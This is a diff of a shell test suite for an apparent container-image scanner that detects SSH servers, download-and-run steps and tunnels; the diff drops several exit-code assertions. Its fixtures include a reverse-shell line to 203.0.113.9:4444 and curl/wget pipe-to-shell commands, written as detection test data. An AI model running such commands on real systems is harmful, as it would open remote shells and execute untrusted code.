@@ -25,7 +25,6 @@ look() {
 
 @test "a database has a database; an SSH server in it is told, whatever it is called" {
     look mariadb '{"Entrypoint":["entry.sh"],"Cmd":["mariadbd"]}' "f|usr/sbin/mariadbd|0755|0|0|@$T/database" "f|entry.sh|0755|0|0|=#!/bin/sh\nexec \"\$@\"\n"
-    assert_exit 0
     assert_eq "$found" ""
     assert_eq "$(jq -r '.facts.claims | .is + " by " + .basis' <<<"$output")" "a database by its name"
     assert_eq "$(jq -r '.facts.capabilities[] | select(.name == "database") | .covered' <<<"$output")" true
@@ -44,7 +43,6 @@ look() {
 
 @test "who claims SSH has it; who cannot be started is no server; a port in the configuration is told" {
     look openssh '{"Cmd":["sshd","-D"]}' "f|usr/sbin/sshd|0755|0|0|@$T/plain"
-    assert_exit 0
     assert_eq "$found" ""
     look app '{"Cmd":["/usr/sbin/sshd","-D"]}' "f|usr/sbin/sshd|0755|0|0|@$T/plain"
     assert_eq "$found" ""
@@ -56,7 +54,6 @@ look() {
     look openssh2 '{"Cmd":["sshd","-D"]}' "f|usr/sbin/sshd|0755|0|0|@$T/plain" "f|usr/bin/python3|0755|0|0|@$T/ssh"
     assert_eq "$found" "critical V1-ssh-server usr/bin/python3"
     look app3 '{}' "f|usr/sbin/sshd|0644|0|0|@$T/plain" "f|usr/bin/ssh|0755|0|0|@$T/plain" "d|etc/dropbear"
-    assert_exit 0
     assert_eq "$found" ""
 }
 
@@ -69,7 +66,6 @@ high V1-download-and-run start.sh
 high V1-tunnel usr/bin/h"
     look web2 '{"Cmd":["nginx"]}' 'f|start.sh|0755|0|0|=#!/bin/sh\n# curl https://x | sh\ncurl -o x https://x\nsh /x\n' \
         'f|usr/share/doc/x/r.sh|0755|0|0|=#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n'
-    assert_exit 0
     assert_eq "$found" ""
     look web3 '{"Entrypoint":["sh","-c","wget -qO- http://x/y | sh"]}'
     assert_eq "$found" "high V1-download-and-run -"
